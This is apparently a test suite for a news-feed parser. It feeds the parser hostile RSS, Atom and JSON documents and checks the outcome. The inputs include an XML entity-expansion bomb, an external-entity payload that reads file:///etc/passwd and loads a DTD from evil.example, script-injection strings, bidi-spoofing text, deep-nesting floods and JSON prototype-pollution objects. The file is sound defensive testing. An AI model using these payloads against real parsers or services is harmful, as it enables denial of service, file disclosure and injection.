import { expect } from 'chai';
import { selectArticles } from '../../src/select/select-articles.js';
import { toRequest } from '../../src/model/request.js';
import { NewsError } from '../../src/model/error.js';
import { jsonFeed, floodOf, read, rss } from '../support/feeds.js';

/**
 * Documents made to stop a page. The guarantee is structural: each is so large that a reader whose time grows with the
 * square of its input would not end within the time limit of a test.
 */

const GOOD = '<item><title>Good</title><link>https://paper.example/good</link></item>';
const titles = (body: string) => read(body).articles.map(({ title }) => title);
const numbered = (count: number, make: (n: number) => string) =>
  Array.from({ length: count }, (_one, n) => make(n)).join('');

describe('a flood of', () => {
  // prettier-ignore
  const PIECES = [
    '<', '<a ', '<a "', '&', '&#', '&amp', `<a a='"`, '<a a="', '</', '<!', '<!--', '<![CDATA[', ']]>', '<?',
    '<img ', '<img src="', '<script>', '<svg ', '\0', ' ', '\u202e', '\ud83d', '&#150;', '&#x202e;',
    '<a' + ' '.repeat(1000), `<a${' "'.repeat(300)}`, '@', 'a@', '"', '(', '1', '.', '&lt;a', '&lt;' + 'a'.repeat(1000), ' »', '1×1 ',
  ];

  for (const piece of PIECES) {
    const name = JSON.stringify(piece.slice(0, 12));

    it(`${name} between items does not affect the items`, () => {
      const text = floodOf(piece);
      expect(titles(`<rss><channel>${GOOD}${text}`)[0], 'in RSS').to.equal('Good');
      expect(
        titles(rss(`${GOOD}<item><enclosure type="image/png" url="${text}"/></item>`))[0],
        'in an attribute',
      ).to.equal('Good');
      const item = { title: text, url: text, content_html: text, date_published: text, language: text, image: text };
      expect(titles(jsonFeed([{ title: 'Good', url: '/good' }, item]))[0], 'in JSON').to.equal('Good');
    });

    it(`${name} inside an item does not affect the others`, () => {
      const text = floodOf(piece);
      for (const element of ['title', 'link', 'guid', 'content:encoded', 'author', 'pubDate', 'dc:language']) {
        expect(titles(rss(`${GOOD}<item><${element}>${text}</${element}></item>`))[0], `as ${element}`).to.equal(
          'Good',
        );
      }
    });

    it(`${name} is rejected`, () => {
      const text = floodOf(piece);
      for (const body of [text, `<html>${text}`, `{${text}`, `{"items":["${text}`, `{"items":[{"a":${text}`]) {
        expect(() => read(body))
          .to.throw(NewsError)
          .with.property('code', 'format');
      }
    });
  }

  it('a title is cut', () => {
    const [article] = read(rss(`<item><title>${floodOf('word ')}</title><link>/a</link></item>`)).articles;
    expect(article!.title.length).to.be.within(900, 1000);
  });
});

describe('a document with', () => {
  it('100,000 nested elements keeps its items', () => {
    expect(titles(rss('<a>'.repeat(100_000) + '</a>'.repeat(100_000) + GOOD))).to.deep.equal(['Good']);
    expect(titles(rss(`${GOOD}<item>${'<a>'.repeat(100_000)}`))).to.deep.equal(['Good']);
    expect(
      titles(rss(`<item><title>${'<b>'.repeat(100_000)}Deep${'</b>'.repeat(100_000)}</title></item>${GOOD}`)),
    ).to.deep.equal(['Good']);
  });

  it('100,000 nested elements in JSON keeps its items', () => {
    const deep = '['.repeat(100_000) + ']'.repeat(100_000);
    expect(titles(`{"items":[{"title":"Good","url":"/a","authors":${deep},"tags":${deep}},${deep}]}`)).to.deep.equal([
      'Good',
    ]);
  });

  it('100,000 end tags that close nothing keeps its items', () => {
    expect(titles(rss('</x>'.repeat(100_000) + GOOD))).to.deep.equal(['Good']);
    expect(titles(rss('<b>'.repeat(50_000) + numbered(50_000, (n) => `</x${n}>`) + GOOD))).to.deep.equal(['Good']);
  });

  it('100,000 namespace declarations, nested or not, keeps its items', () => {
    expect(titles(rss(numbered(100_000, (n) => `<a xmlns:n${n}="urn:${n}">`) + GOOD))).to.deep.equal(['Good']);
    expect(
      titles(`<rss><channel><x ${numbered(100_000, (n) => `xmlns:n${n}="urn:${n}" `)}/>${GOOD}</channel></rss>`),
    ).to.deep.equal(['Good']);
    expect(titles(rss(numbered(100_000, (n) => `<n${n}:a/>`) + GOOD))).to.deep.equal(['Good']);
  });

  it('entities that grow is not expanded', () => {
    const entities = numbered(20, (n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`);
    const bomb = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e0 "ha">${entities}]>`;
    const [article] = read(bomb + rss('<item><title>&e20;</title><link>/a</link></item>')).articles;
    expect(article!.title).to.equal('&e20;');
  });

  it('external entities fetches no file', () => {
    const external =
      '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "https://evil.example/x.dtd">%y;]>';
    expect(titles(external + rss('<item><title>A &x; b</title><link>/a</link></item>'))).to.deep.equal(['A &x; b']);
  });

  it('20,000 items gives the first 1,000 of those without a date', () => {
    const items = numbered(20_000, (n) => `<item><title>T${n}</title><link>/${n}</link></item>`);
    const { articles } = read(rss(items));
    expect(articles).to.have.length(1000);
    expect(articles.at(-1)!.title).to.equal('T999');
  });

  it('an endless list of JSON is read up to its 20,000th item', () => {
    const items = Array.from({ length: 20_001 }, (_, n) => ({
      url: `https://a.example/${n}`,
      title: `T${n}`,
      date_published: new Date(n * 1000).toISOString(),
    }));
    const { articles } = read(JSON.stringify({ version: 'https://jsonfeed.org/version/1.1', items }));
    expect(articles.map(({ title }) => title))
      .to.include('T19999')
      .and.not.include('T20000');
    expect(articles).to.have.length(1000);
  });

  it('20,000 equal items gets unique ids', () => {
    const { articles } = read(rss('<item><title>T</title><link>/a</link></item>'.repeat(20_000)));
    expect(new Set(articles.map(({ id }) => id)).size).to.equal(1000);
  });

  it('500 equal items after 500 with their numbered ids gets unique ids', () => {
    const url = 'https://paper.example/a';
    const taken = numbered(500, (n) => `<item><title>T</title><link>${url}</link><guid>${url}#${n + 2}</guid></item>`);
    const { articles } = read(rss(taken + `<item><title>T</title><link>${url}</link></item>`.repeat(500)));
    expect(new Set(articles.map(({ id }) => id)).size).to.equal(1000);
  });

  it('999 items without an end tag drops invalid ones', () => {
    expect(read(rss('<item>'.repeat(999) + GOOD))).to.have.nested.property('articles.length', 1);
  });

  const MANY_AUTHORS = {
    RSS: () =>
      rss(
        '<item><title>T</title><link>/a</link></item>'.repeat(10_000),
        numbered(10_000, (n) => `<managingEditor>E${n}</managingEditor>`),
      ),
    Atom: () =>
      `<feed>${numbered(10_000, (n) => `<author><name>A${n}</name></author>`)}${'<entry><title>T</title><link href="/a"/></entry>'.repeat(10_000)}</feed>`,
    JSON: () => jsonFeed(Array(10_000).fill({ title: 'T', url: '/a' }), { authors: Array(10_000).fill({ name: 'A' }) }),
  };
  for (const [dialect, document] of Object.entries(MANY_AUTHORS)) {
    it(`10,000 authors for each of 10,000 items keeps some of them (${dialect})`, () => {
      const { articles } = read(document());
      expect(articles).to.have.length(1000);
      expect(articles[0]!.authors.length).to.be.within(1, 100);
    });
  }

  it('a base or a language of a megabyte for 10,000 items ignores it', () => {
    const long = floodOf('a');
    for (const attribute of [`xml:base="https://a.example/${long}/"`, `xml:lang="${long}"`]) {
      const { articles } = read(
        `<feed ${attribute}>${'<entry><title>T</title><link href="/a"/></entry>'.repeat(10_000)}</feed>`,
      );
      expect(articles).to.have.length(1000);
      expect(articles[0]).to.include({ url: 'https://paper.example/a' }).and.not.to.have.property('language');
    }
  });

  it('30,000 pictures that share one long description shows one', () => {
    const media = `<media:description>${'long '.repeat(10_000)}</media:description>${'<media:content url="a.jpg"/>'.repeat(30_000)}`;
    expect(read(rss(`<item><title>T</title><link>/a</link>${media}</item>`)).articles[0]!.image?.url).to.equal(
      'https://paper.example/feeds/a.jpg',
    );
  });

  it('a link with 100,000 tracking parameters is compared in limited time', () => {
    const link = `https://paper.example/a?${numbered(100_000, (n) => `utm_${n}=1&amp;`)}x=1`;
    const { articles } = read(
      rss(`<item><title>A</title><link>${link}</link></item><item><title>B</title><link>/a?x=1</link></item>`),
    );
    expect(selectArticles(articles, toRequest({}, expect.fail))).to.have.length(1);
  });
});

describe('text made to deceive', () => {
  const textOf = (text: string) => read(rss(`<item><title>${text}</title><link>/a</link></item>`)).articles[0]!.title;

  it('can’t reorder the text around it', () => {
    expect(textOf('Pay \u202e001\u202c \u2066now\u2069 &#x202e;x &amp;#8238;y')).to.equal('Pay 001 now x y');
  });

  it('can’t contain null bytes', () => {
    expect(textOf('Pay\0 no&#0;w')).to.equal('Pay no\ufffdw');
  });

  it('can’t cover the lines above and below with marks, and keeps those of every script', () => {
    expect(textOf(`P${'\u0301\u0316'.repeat(5)}ay ${'\u05b0'.repeat(300)}now`)).to.equal('Pay now');
    expect(textOf(`P&#x301;${'&#x316;'.repeat(8)}ay`)).to.equal('Pay');
    for (const kept of [
      'Viê\u0323\u0302t',
      'ที่นี่ก็ได้',
      'क्षत्रिय',
      'בְּרֵאשִׁ֖ית',
      'ﷺ لَّهُمَّ',
      'འབྲུག་ཡུལ་ལྷཱུྃ',
      '👩🏽‍🚀❤️',
      `x${'\u0301'.repeat(8)}`,
    ]) {
      expect(textOf(kept)).to.equal(kept);
    }
  });

  it('can’t create markup', () => {
    expect(textOf('&lt;img src=x onerror=alert(1)&gt;Text&lt;script&gt;alert(1)&lt;/script&gt;')).to.equal('Text');
  });
});

describe('names of inherited members', () => {
  it('as elements and attributes are just names', () => {
    const names = ['constructor', '__proto__', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];
    const odd = names
      .map((name) => `<${name} ${name}="x" xmlns:${name}="urn:${name}"><${name}:title/>x</${name}>`)
      .join('');
    expect(titles(rss(odd + GOOD.replace('<title', `${odd}<title`), odd))).to.deep.equal(['Good']);
    for (const name of names) expect(titles(`<${name}:rss xmlns:${name}="urn:x" ${name}="x"/>`)).to.deep.equal([]);
  });

  it('as members of JSON are left out, and change no prototype', () => {
    const polluting = '"__proto__":{"polluted":true,"title":"Stolen"},"constructor":{"prototype":{"polluted":true}}';
    const document = `{${polluting},"items":[{${polluting},"url":"/a","title":"Good"},{${polluting},"url":"/b"}]}`;
    const { articles, dropped } = read(document);
    expect(articles.map(({ title }) => title)).to.deep.equal(['Good']);
    expect(dropped).to.have.length(1);
    expect(Object.getPrototypeOf(articles[0])).to.equal(Object.prototype);
    expect(articles[0]).not.to.have.any.keys('__proto__', 'constructor', 'polluted');
    expect(({} as { polluted?: boolean }).polluted).to.equal(undefined);
  });
});
